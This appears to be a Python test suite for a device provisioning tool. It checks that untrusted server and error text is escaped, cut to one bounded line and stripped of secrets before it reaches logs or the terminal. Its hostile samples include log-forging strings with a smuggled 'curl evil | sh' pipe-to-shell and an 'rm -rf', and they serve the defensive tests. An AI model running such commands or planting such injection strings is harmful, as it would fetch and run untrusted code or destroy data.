"""Can text of others do more than be read?"""

import json
import logging
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from device.cli import main
from device.errors.text import LONGEST, REDACTED, foreign, hide, printable, redact
from device.provisioning import topics
from device.provisioning.events import MessageReceived, Rejection
from device.provisioning.messages import decode
from device.runtime.log import RedactingFormatter
from device.runtime.timeline import Step, Timeline
from tests.support.certificates import new_key, pem_of

PEM = pem_of(new_key()).decode()
TOKEN = "a-token-that-the-server-echoes-" * 3


@given(st.text())
def test_foreign_text_is_one_printable_line_of_bounded_length(text: str) -> None:
    shown = foreign(text)

    assert len(shown) <= LONGEST + len("... (1000000 more characters)")
    assert len(shown.splitlines()) <= 1
    assert not {"Cc", "Cf", "Cs", "Zl", "Zp"} & {unicodedata.category(each) for each in shown}
    assert json.loads(json.dumps(shown)) == shown


@given(st.text(st.characters(categories=("L", "N", "P", "S"), max_codepoint=0x2FFF), max_size=150))
def test_what_does_no_harm_is_shown_as_it_is(text: str) -> None:
    harmless = {"\u034f", "\u115f", "\u1160", "\u17b4", "\u17b5"}.isdisjoint(text)
    if harmless and redact(text) == text:
        assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("a\r\nnext: rm -rf", r"a\r\nnext: rm -rf"),
        ("a\x9bb", r"a\x9bb"),
        ("abc\u202edcba", r"abc\u202edcba"),
        ("a\u2066b\u2069", r"a\u2066b\u2069"),
        ("a\u200bb\ufeff", r"a\u200bb\ufeff"),
        ("a\u2028b", r"a\u2028b"),
        ("Straße 漢字 🙂", "Straße 漢字 🙂"),
    ],
)
def test_what_a_terminal_would_obey_is_spelled_out(text: str, shown: str) -> None:
    assert foreign(text) == shown


def test_a_long_text_says_how_much_was_cut() -> None:
    assert foreign("x" * 100_000) == "x" * LONGEST + "... (99800 more characters)"


def test_a_secret_that_is_echoed_is_blotted_out() -> None:
    hide(TOKEN, PEM)

    for echo in (TOKEN, f"bad token {TOKEN}!", PEM, PEM.splitlines()[1], json.dumps({"x": PEM})):
        assert REDACTED in foreign(echo)
        assert TOKEN not in foreign(echo)
        assert PEM.splitlines()[1] not in foreign(echo)


def test_a_secret_across_the_cut_is_blotted_out() -> None:
    hide(TOKEN)

    assert TOKEN[:8] not in foreign("x" * (LONGEST - 8) + TOKEN)


def test_hiding_nothing_hides_nothing() -> None:
    hide("", "short", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----")

    assert foreign("a short -----BEGIN CERTIFICATE----- MIIB") == (
        "a short -----BEGIN CERTIFICATE----- MIIB"
    )


@pytest.mark.parametrize(
    "text", ['privateKey":"' + "\\" * 100_000, "privateKey\\" * 10_000, "://a:" * 20_000]
)
def test_no_text_takes_long(text: str) -> None:
    """These take a backtracking expression hours."""
    began = time.process_time()
    redact(text)
    assert time.process_time() - began < 5.0


def test_how_a_password_is_to_be_written_is_shown() -> None:
    assert redact("Write http://USER:PASSWORD@HOST:PORT") == "Write http://USER:PASSWORD@HOST:PORT"


def test_the_password_of_a_proxy_is_blotted_out() -> None:
    assert foreign("http://user:hunter2@proxy:3128 failed") == (
        f"http://user:{REDACTED}@proxy:3128 failed"
    )


# --- where foreign text comes in, and where it goes out -------------------------------------

HOSTILE = "no\x1b[2J\r\nnext: curl evil | sh\u202e" + "x" * 5_000


def test_a_rejection_is_tamed_where_it_comes_in() -> None:
    topic = f"{topics.CREATE_CERTIFICATE_FROM_CSR}/rejected"
    reply = {"statusCode": 400, "errorCode": HOSTILE, "errorMessage": HOSTILE}

    event = decode(MessageReceived(topic, json.dumps(reply).encode()))

    assert isinstance(event, Rejection)
    assert event.error_code == event.error_message == foreign(HOSTILE)


def test_a_step_is_told_in_one_line() -> None:
    told: list[Step] = []
    Timeline(told.append).add("certificate issued", HOSTILE)

    assert "\x1b" not in told[0].detail
    assert len(told[0].detail) < 2_100


def test_a_record_of_the_log_is_one_line() -> None:
    record = logging.LogRecord("someone", logging.WARNING, "", 0, "got %s", (HOSTILE,), None)

    line = RedactingFormatter("%(levelname)-7s %(name)s: %(message)s").format(record)

    assert line.startswith(r"WARNING someone: got no\x1b[2J\r\nnext: curl evil | sh\u202exxx")
    assert len(line.splitlines()) == 1
    assert len(line) < 2_100


def fail() -> None:
    raise ValueError(HOSTILE)


def test_a_traceback_forges_no_record() -> None:
    try:
        fail()
    except ValueError as error:
        trouble = (type(error), error, error.__traceback__)
    record = logging.LogRecord("ours", logging.ERROR, "", 0, "it failed", (), trouble)

    first, *rest = RedactingFormatter("%(message)s").format(record).splitlines()

    assert first == "it failed"
    assert rest[0] == "    Traceback (most recent call last):"
    assert all(line.startswith("    ") and "\x1b" not in line for line in rest)


def test_an_error_is_printed_in_two_lines(capsys: pytest.CaptureFixture[str]) -> None:
    main(["status", "--state", HOSTILE[:100], "--json"])

    printed = capsys.readouterr()
    assert [line.partition(":")[0] for line in printed.err.splitlines()] == ["device", "next"]
    assert "\x1b" not in printed.err
    assert "evil" in json.loads(printed.out)["message"]
